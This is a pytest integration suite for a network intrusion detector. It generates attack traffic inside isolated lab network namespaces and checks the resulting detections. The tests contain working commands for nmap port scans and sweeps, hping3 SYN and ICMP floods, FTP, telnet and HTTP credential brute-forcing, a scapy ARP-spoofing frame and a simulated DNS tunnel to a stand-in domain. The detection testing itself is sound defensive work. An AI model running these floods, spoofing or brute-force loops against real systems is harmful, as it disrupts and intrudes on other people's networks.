"""Real traffic made by real tools between network namespaces, captured with tcpdump, analysed, and
compared with the findings it must (and must not) produce, in the style of suricata-verify.

Set SENTINEL_SAVE_CAPTURES=DIR to keep every capture (that is how rules/tests/traffic/*.pcap were made).
"""

from __future__ import annotations

import contextlib
import json
import os
import select
import shutil
import signal
import subprocess
import sys
import textwrap
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from sentinel.engine.loader import load_rules
from sentinel.engine.ruleset import RuleSet, Verdict
from sentinel.paths import shipped_rules_dir
from sentinel.registry.loader import load_registry
from sentinel.registry.models import Registry
from sentinel.traffic.analyze import analyze_file, with_unregistered
from sentinel.traffic.intel import ThreatIntel, load_intel
from sentinel.traffic.pii import ID_CHECK, ID_WEIGHTS
from tests.netns import Host, NetnsLab, netns_lab, require_tool

pytestmark = pytest.mark.netns

SERVER, CLIENT, ATTACKER, RESOLVER = "198.18.61.10", "198.18.61.20", "198.18.61.30", "198.18.61.53"
EXTRA = [f"198.18.62.{i}" for i in range(1, 25)]  # more addresses of the server: horizontal scan and sweep targets
TOOLS = ("tcpdump", "nmap", "hping3", "curl", "vsftpd", "dnsmasq", "telnetd", "ping", "dig")


def resident_id(first17: str) -> str:
    total = sum(int(d) * w for d, w in zip(first17, ID_WEIGHTS, strict=True))
    return first17 + ID_CHECK[total % 11]


VALID_ID = resident_id("11010519491231002")
BAD_CHECKSUM_ID = VALID_ID[:17] + ("0" if VALID_ID[17] != "0" else "1")

REGISTRY = f"""
scope:
  allow: ["198.18.0.0/16"]
systems:
  - id: portal
    name: Lab portal
    owner: {{department: Lab}}
    tier: city
    mlps_level: 3
    endpoints:
      - host: {SERVER}
        ports: [21, 23, 8080]
  - id: workstation
    name: Lab workstation
    owner: {{department: Lab}}
    tier: district
    mlps_level: 2
    endpoints:
      - host: {CLIENT}
"""

HTTP_SERVER = """
import http.server, socketserver, sys
PAGES = {"/records": sys.argv[2], "/public": sys.argv[3]}
class Handler(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        body = PAGES.get(self.path)
        if body is None:
            self.send_response(401)
            self.send_header("WWW-Authenticate", 'Basic realm="admin"')
            self.send_header("Content-Length", "0")
            self.end_headers()
            return
        data = body.encode()
        self.send_response(200)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)
    def log_message(self, *args):
        return None  # the lab server stays quiet: the test reads what it served, not its log
class Server(socketserver.ThreadingTCPServer):  # not HTTPServer: its bind does a reverse DNS lookup
    allow_reuse_address = True
    daemon_threads = True
Server((sys.argv[1], int(sys.argv[4])), Handler).serve_forever()
"""

INETD = """
import socket, subprocess, sys
listener = socket.socket()
listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
listener.bind((sys.argv[1], int(sys.argv[2])))
listener.listen(16)
while True:
    conn, _ = listener.accept()
    subprocess.Popen(sys.argv[3:], stdin=conn.fileno(), stdout=conn.fileno(), stderr=subprocess.DEVNULL)
    conn.close()
"""

FAKE_LOGIN = """#!/bin/sh
printf 'login: '
read user
printf 'Password: '
read pass
sleep 0.1
echo
echo 'Login incorrect'
"""

TELNET_CLIENT = """
import sys, warnings
warnings.simplefilter("ignore")
import telnetlib
t = telnetlib.Telnet(sys.argv[1], 23, timeout=5)
t.read_until(b"login: ", 5)
t.write(b"alice\\r\\n")
t.read_until(b"Password: ", 5)
t.write(b"s3cret-telnet\\r\\n")
t.read_until(b"incorrect", 5)
"""

VSFTPD_CONF = f"""listen=YES
listen_ipv6=NO
listen_address={SERVER}
anonymous_enable=NO
local_enable=YES
pam_service_name=vsftpd
secure_chroot_dir=/var/run/vsftpd/empty
delay_failed_login=0
max_login_fails=1
background=NO
seccomp_sandbox=NO
"""


@dataclass
class Lab:
    lab: NetnsLab
    server: Host
    client: Host
    attacker: Host
    resolver: Host
    registry: Registry
    work: Path


def _wait_listening(host: Host, port: int, proto: str = "t") -> None:
    deadline = time.monotonic() + 10
    while time.monotonic() < deadline:
        out = host.run("ss", f"-ln{proto}H", check=False).stdout
        if any(line.split()[3].endswith(f":{port}") for line in out.splitlines() if len(line.split()) > 3):
            return
        time.sleep(0.05)
    raise AssertionError(f"nothing listens on {host.ipv4}:{port}")


@contextlib.contextmanager
def local_resolver_only(hosts: list[Host]) -> Iterator[None]:
    """Point each namespace's resolv.conf at its own loopback, so no server's reverse lookup leaves the lab."""
    dirs = [Path("/etc/netns") / host.name for host in hosts]
    for folder in dirs:
        folder.mkdir(parents=True, exist_ok=True)
        (folder / "resolv.conf").write_text("nameserver 127.0.0.1\noptions timeout:1 attempts:1\n")
    try:
        yield
    finally:
        for folder in dirs:
            shutil.rmtree(folder, ignore_errors=True)


@pytest.fixture(scope="module")
def lab(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Lab]:
    for tool in TOOLS:
        require_tool(tool)
    work = tmp_path_factory.mktemp("traffic-lab")
    with netns_lab() as netlab, contextlib.ExitStack() as stack:
        server = netlab.add_host(SERVER)
        for address in EXTRA:
            server.run("ip", "addr", "add", f"{address}/16", "dev", netlab.veth_inside(server))
        client, attacker, resolver = netlab.add_host(CLIENT), netlab.add_host(ATTACKER), netlab.add_host(RESOLVER)
        stack.enter_context(local_resolver_only([server, client, attacker, resolver]))
        (work / "http_server.py").write_text(HTTP_SERVER)
        (work / "inetd.py").write_text(INETD)
        (work / "vsftpd.conf").write_text(VSFTPD_CONF)
        login = work / "fake_login.sh"
        login.write_text(FAKE_LOGIN)
        login.chmod(0o755)
        records = (
            f"<tr><td>张三</td><td>{VALID_ID}</td><td>13800138000</td><td>13912345678</td><td>15000000001</td></tr>"
        )
        public = f"<p>order 12345678901234567890, ref {BAD_CHECKSUM_ID}, build 2026112312</p>"
        devnull = subprocess.DEVNULL
        server.popen(sys.executable, str(work / "http_server.py"), SERVER, records, public, "8080", stdout=devnull)
        server.popen(sys.executable, str(work / "http_server.py"), SERVER, "", "", "9999", stdout=devnull)
        server.popen(
            sys.executable, str(work / "inetd.py"), SERVER, "23", shutil.which("telnetd") or "", "-E", str(login)
        )
        Path("/var/run/vsftpd/empty").mkdir(parents=True, exist_ok=True)
        server.popen("vsftpd", str(work / "vsftpd.conf"), stdout=devnull, stderr=devnull)
        resolver.popen(
            "dnsmasq", "-k", "--no-resolv", "--no-hosts", "--bind-interfaces", f"--listen-address={RESOLVER}",
            "--address=/tunnel.example/198.18.61.99", "--address=/lab.example/198.18.61.98", "--log-facility=/dev/null",
            stdout=devnull, stderr=devnull,
        )  # fmt: skip
        for port in (8080, 9999, 23, 21):
            _wait_listening(server, port)
        _wait_listening(resolver, 53, "u")
        registry_file = work / "registry.yaml"
        registry_file.write_text(REGISTRY)
        yield Lab(netlab, server, client, attacker, resolver, load_registry(registry_file), work)


@contextlib.contextmanager
def capture(lab: Lab, host: Host, name: str) -> Iterator[Path]:
    """tcpdump on the host's interface for the duration of the block."""
    path = lab.work / f"{name}.pcap"
    iface = lab.lab.veth_inside(host)
    args = ["tcpdump", "-i", iface, "-n", "-U", "--immediate-mode", "-s", "4096", "-w", str(path)]
    proc = host.popen(*args, stderr=subprocess.PIPE)
    assert proc.stderr is not None
    deadline, seen = time.monotonic() + 10, b""
    while b"listening on" not in seen and time.monotonic() < deadline:
        ready, _, _ = select.select([proc.stderr], [], [], 0.2)
        if ready:
            seen += os.read(proc.stderr.fileno(), 4096)
    assert b"listening on" in seen, f"tcpdump did not start: {seen!r}"
    time.sleep(0.5)  # "listening" is printed a moment before the capture socket sees packets
    try:
        yield path
    finally:
        time.sleep(0.3)
        proc.send_signal(signal.SIGINT)
        proc.wait(10)
        keep = os.environ.get("SENTINEL_SAVE_CAPTURES")
        if keep:
            Path(keep).mkdir(parents=True, exist_ok=True)
            shutil.copy(path, Path(keep) / path.name)


RULES = RuleSet(load_rules([shipped_rules_dir() / "traffic"]))


def detections(lab: Lab, pcap: Path, intel: ThreatIntel | None = None) -> list[Verdict]:
    observations = analyze_file(pcap, lab.registry, intel or ThreatIntel()).observations
    present = [v for v in RULES.evaluate_stateless(observations, with_unregistered(lab.registry)) if v.present]
    for v in present:  # every detection names both ends
        assert "source_ip" in v.evidence and "destination_ip" in v.evidence, v
    return present


def found(verdicts: list[Verdict]) -> set[tuple[str, str, str]]:
    return {(v.rule.id, v.system_id, v.target) for v in verdicts}


def run(host: Host, *args: str, timeout: float = 30) -> None:
    host.run(*args, check=False, timeout=timeout)


@pytest.mark.parametrize(("flag", "kind"), [("-sS", "syn"), ("-sF", "fin"), ("-sN", "null"), ("-sX", "xmas")])
def test_nmap_port_scans_are_detected(lab: Lab, flag: str, kind: str) -> None:
    with capture(lab, lab.server, f"portscan_{kind}") as pcap:
        run(lab.attacker, "nmap", "-n", "-Pn", flag, "-T5", "--max-retries", "0", "-p", "1-120", SERVER)
    verdicts = detections(lab, pcap)
    assert ("traffic_portscan_vertical", "portal", f"{ATTACKER} -> {SERVER}") in found(verdicts)
    scan = next(v for v in verdicts if v.rule.id == "traffic_portscan_vertical")
    assert scan.evidence["scan.types"] == [kind]
    assert scan.evidence["source_ip"] == ATTACKER and scan.evidence["destination_ip"] == SERVER


def test_nmap_sweep_and_horizontal_scan_of_unregistered_hosts(lab: Lab) -> None:
    with capture(lab, lab.server, "sweep_horizontal") as pcap:
        run(lab.attacker, "nmap", "-n", "-sn", "-T5", *EXTRA)
        run(lab.attacker, "nmap", "-n", "-Pn", "-sS", "-T5", "--max-retries", "0", "-p", "80", *EXTRA)
    got = found(detections(lab, pcap))
    # the swept addresses are not in the registry: reported under the reserved system id 'unregistered'
    assert ("traffic_host_sweep", "unregistered", f"{ATTACKER} -> *") in got
    assert ("traffic_portscan_horizontal", "unregistered", f"{ATTACKER} -> *:80/tcp") in got


def test_hping3_syn_flood_is_detected(lab: Lab) -> None:
    with capture(lab, lab.server, "syn_flood") as pcap:
        run(lab.attacker, "hping3", "-q", "-S", "-p", "8081", "-i", "u200", "-c", "2500", SERVER)
    verdicts = detections(lab, pcap)
    assert ("traffic_syn_flood", "portal", f"{SERVER}:8081/tcp") in found(verdicts)
    flood = next(v for v in verdicts if v.rule.id == "traffic_syn_flood")
    assert flood.evidence["syn.completed"] == 0


def test_icmp_flood_and_oversized_icmp_are_detected(lab: Lab) -> None:
    with capture(lab, lab.server, "icmp_flood") as pcap:
        run(lab.attacker, "hping3", "-q", "--icmp", "-i", "u500", "-c", "1500", SERVER)
        run(lab.attacker, "ping", "-c", "2", "-i", "0.2", "-s", "3000", SERVER)
    got = found(detections(lab, pcap))
    assert ("traffic_icmp_flood", "portal", f"{ATTACKER} -> {SERVER}/icmp") in got
    assert ("traffic_icmp_oversized", "portal", f"{ATTACKER} -> {SERVER}/icmp") in got


def test_ftp_logins_leak_credentials_and_repeat_as_brute_force(lab: Lab) -> None:
    logins = " ".join(f"curl -s -m 8 ftp://alice:s3cret{i}@{SERVER}/ &" for i in range(6))
    with capture(lab, lab.server, "ftp_bruteforce") as pcap:  # in parallel: PAM delays each failure ~2 s
        run(lab.client, "sh", "-c", f"{logins} wait")
    verdicts = detections(lab, pcap)
    got = found(verdicts)
    assert ("traffic_cleartext_credentials", "portal", f"{CLIENT} -> {SERVER}:21/tcp ftp") in got
    assert ("traffic_bruteforce_login", "portal", f"{CLIENT} -> {SERVER}:21/tcp") in got
    creds = next(v for v in verdicts if v.rule.id == "traffic_cleartext_credentials")
    assert creds.evidence["credentials.usernames"] == ["alice"]
    assert creds.evidence["credentials.secret"] == "[redacted]"
    assert "s3cret" not in json.dumps([v.evidence for v in verdicts])


def test_telnet_login_leaks_credentials(lab: Lab) -> None:
    (lab.work / "telnet_client.py").write_text(TELNET_CLIENT)
    with capture(lab, lab.server, "telnet_login") as pcap:
        run(lab.client, sys.executable, str(lab.work / "telnet_client.py"), SERVER)
    verdicts = detections(lab, pcap)
    assert ("traffic_cleartext_credentials", "portal", f"{CLIENT} -> {SERVER}:23/tcp telnet") in found(verdicts)
    creds = next(v for v in verdicts if v.rule.id == "traffic_cleartext_credentials")
    assert creds.evidence["credentials.usernames"] == ["alice"]
    assert "s3cret" not in json.dumps([v.evidence for v in verdicts])


def test_http_basic_auth_leaks_credentials_and_401s_count_as_failures(lab: Lab) -> None:
    with capture(lab, lab.server, "http_basic") as pcap:
        for i in range(6):
            run(lab.client, "curl", "-s", "-m", "5", "-u", f"admin:pw{i}", f"http://{SERVER}:8080/admin")
    got = found(detections(lab, pcap))
    assert ("traffic_cleartext_credentials", "portal", f"{CLIENT} -> {SERVER}:8080/tcp http-basic") in got
    assert ("traffic_bruteforce_login", "portal", f"{CLIENT} -> {SERVER}:8080/tcp") in got


def test_personal_data_served_in_cleartext(lab: Lab) -> None:
    with capture(lab, lab.server, "personal_data") as pcap:
        run(lab.client, "curl", "-s", "-m", "5", f"http://{SERVER}:8080/records")
    verdicts = detections(lab, pcap)
    assert ("traffic_personal_data_cleartext", "portal", f"{SERVER} -> {CLIENT} port 8080") in found(verdicts)
    leak = next(v for v in verdicts if v.rule.id == "traffic_personal_data_cleartext")
    assert VALID_ID not in json.dumps(leak.evidence)  # samples are masked


def test_dns_tunnel_queries_are_detected(lab: Lab) -> None:
    script = textwrap.dedent(f"""
        import base64, os, dns.message, dns.query
        for i in range(30):
            label = base64.b32encode(os.urandom(30)).decode().rstrip("=").lower()
            query = dns.message.make_query(f"{{label}}.s{{i}}.tunnel.example", "TXT")
            dns.query.udp(query, "{RESOLVER}", timeout=2)
    """)
    with capture(lab, lab.client, "dns_tunnel") as pcap:
        run(lab.client, sys.executable, "-c", script)
    got = found(detections(lab, pcap))
    assert ("traffic_dns_tunnel", "workstation", f"{CLIENT} -> tunnel.example (dns)") in got


def test_arp_spoofing_is_detected(lab: Lab) -> None:
    iface = lab.lab.veth_inside(lab.attacker)
    script = textwrap.dedent(f"""
        from scapy.all import ARP, Ether, get_if_hwaddr, sendp
        mac = get_if_hwaddr("{iface}")
        frame = Ether(src=mac, dst="ff:ff:ff:ff:ff:ff") / ARP(op=2, hwsrc=mac, psrc="{SERVER}", pdst="{CLIENT}")
        sendp(frame, iface="{iface}", count=3, inter=0.05, verbose=False)
    """)
    try:
        with capture(lab, lab.client, "arp_spoof") as pcap:
            run(lab.client, "ip", "neigh", "flush", "all")
            run(lab.client, "ping", "-c", "1", "-W", "1", SERVER)
            run(lab.attacker, sys.executable, "-c", script)
    finally:
        run(lab.client, "ip", "neigh", "flush", "all")  # undo the poisoning for the other tests
    assert ("traffic_arp_spoof", "portal", f"arp {SERVER}") in found(detections(lab, pcap))


def test_threat_intel_addresses_and_domains(lab: Lab) -> None:
    lists = lab.work / "intel"
    lists.mkdir(exist_ok=True)
    (lists / "lab_feed.txt").write_text(f"# lab feed\n{RESOLVER}\nc2.lab.example\n")
    intel = load_intel([lists])
    with capture(lab, lab.client, "threat_intel") as pcap:
        run(lab.client, "ping", "-c", "2", "-i", "0.2", RESOLVER)
        run(lab.client, "dig", "+short", "+time=2", "+tries=1", f"@{RESOLVER}", "beacon.c2.lab.example")
    got = found(detections(lab, pcap, intel))
    assert ("traffic_threat_intel_contact", "workstation", f"{CLIENT} -> {RESOLVER}") in got
    assert ("traffic_threat_intel_contact", "workstation", f"{CLIENT} -> c2.lab.example") in got


def test_registered_host_answering_on_undeclared_port(lab: Lab) -> None:
    with capture(lab, lab.server, "undeclared_service") as pcap:
        run(lab.client, "curl", "-s", "-m", "5", f"http://{SERVER}:9999/")
        run(lab.client, "curl", "-s", "-m", "5", f"http://{SERVER}:8080/public")
    got = found(detections(lab, pcap))
    assert ("traffic_undeclared_service", "portal", f"{SERVER}:9999/tcp") in got
    assert ("traffic_undeclared_service", "portal", f"{SERVER}:8080/tcp") not in got


def test_normal_traffic_trips_no_detector(lab: Lab) -> None:
    """The negative capture for every detector: ordinary web, DNS, ping, ARP and a successful page load."""
    with capture(lab, lab.client, "normal") as pcap:
        run(lab.client, "ip", "neigh", "flush", "all")
        for _ in range(5):
            run(lab.client, "curl", "-s", "-m", "5", f"http://{SERVER}:8080/public")
        for name in ("www.lab.example", "mail.lab.example", "portal.lab.example", "www.lab.example"):
            run(lab.client, "dig", "+short", "+time=2", "+tries=1", f"@{RESOLVER}", name)
        run(lab.client, "ping", "-c", "3", "-i", "0.2", SERVER)
    assert found(detections(lab, pcap)) == set()


def test_flood_sources_are_the_flooders_not_a_client_served_meanwhile(lab: Lab) -> None:
    """Issue 11 defect 8: a legitimate client that sent a SYN during a flood was listed as a flood source."""
    with capture(lab, lab.server, "syn_flood_with_client") as pcap:
        flood = lab.attacker.popen(
            "hping3", "-q", "-S", "-p", "8080", "-i", "u300", "-c", "3000", SERVER,
            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
        )  # fmt: skip
        time.sleep(0.2)
        for _ in range(2):
            run(lab.client, "curl", "-s", "-m", "5", "-o", "/dev/null", f"http://{SERVER}:8080/public")
        flood.wait(30)
    verdicts = detections(lab, pcap)
    assert ("traffic_syn_flood", "portal", f"{SERVER}:8080/tcp") in found(verdicts)
    evidence = next(v for v in verdicts if v.rule.id == "traffic_syn_flood").evidence
    assert evidence["source_ip"] == [ATTACKER]  # the client is not blamed...
    top = {t["source_ip"]: t for t in evidence["syn.top_sources"]}
    assert top[ATTACKER]["syn"] == 3000 and top[ATTACKER]["share"] > 0.99
    assert 1 <= top[CLIENT]["syn"] <= 4 and top[CLIENT]["share"] < 0.01  # ...but still counted, with its share
    assert evidence["syn.sources"] == 2


def test_nmap_udp_scan_is_detected(lab: Lab) -> None:
    with capture(lab, lab.server, "portscan_udp") as pcap:
        run(lab.attacker, "nmap", "-n", "-Pn", "-sU", "-T5", "--max-retries", "0", "-p", "1-150", SERVER, timeout=60)
    verdicts = detections(lab, pcap)
    assert ("traffic_portscan_udp", "portal", f"{ATTACKER} -> {SERVER}/udp") in found(verdicts)
    assert not any(v.rule.id == "traffic_portscan_vertical" for v in verdicts)  # it is not reported as a TCP scan
    scan = next(v for v in verdicts if v.rule.id == "traffic_portscan_udp")
    assert scan.evidence["scan.ports"] == 150
    # the closed ports answered ICMP port unreachable (as many as the kernel's rate limit let through)
    obs = analyze_file(pcap, lab.registry, ThreatIntel()).observations
    udp = next(o for o in obs if o.kind == "traffic.portscan" and o.target == f"{ATTACKER} -> {SERVER}/udp")
    assert udp.data["scan.unreachable"] >= 1 and udp.data["scan.unanswered"] == 150


def test_nmap_udp_sweep_and_horizontal_scan(lab: Lab) -> None:
    with capture(lab, lab.server, "sweep_udp") as pcap:
        run(lab.attacker, "nmap", "-n", "-Pn", "-sU", "-T5", "--max-retries", "0", "-p", "161", *EXTRA, timeout=60)
    got = found(detections(lab, pcap))
    assert ("traffic_portscan_horizontal", "unregistered", f"{ATTACKER} -> *:161/udp") in got
    assert ("traffic_host_sweep", "unregistered", f"{ATTACKER} -> */udp") in got


def test_dns_lookups_are_not_a_udp_scan(lab: Lab) -> None:
    """The negative case: answers from port 53 reach many ports of the client, and its queries many names."""
    script = textwrap.dedent(f"""
        import dns.message, dns.query
        for i in range(80):
            dns.query.udp(dns.message.make_query(f"host{{i}}.lab.example", "A"), "{RESOLVER}", timeout=2)
    """)
    with capture(lab, lab.client, "dns_lookups") as pcap:
        run(lab.client, sys.executable, "-c", script)
    assert found(detections(lab, pcap)) == set()
    obs = analyze_file(pcap, lab.registry, ThreatIntel()).observations
    udp = [o for o in obs if o.kind == "traffic.portscan" and o.data["scan.protocol"] == "udp"]
    assert [o.target for o in udp] == [f"{CLIENT} -> {RESOLVER}/udp"]  # never the answers' direction
    assert udp[0].data["scan.ports"] == 1 and udp[0].data["scan.unanswered"] == 0
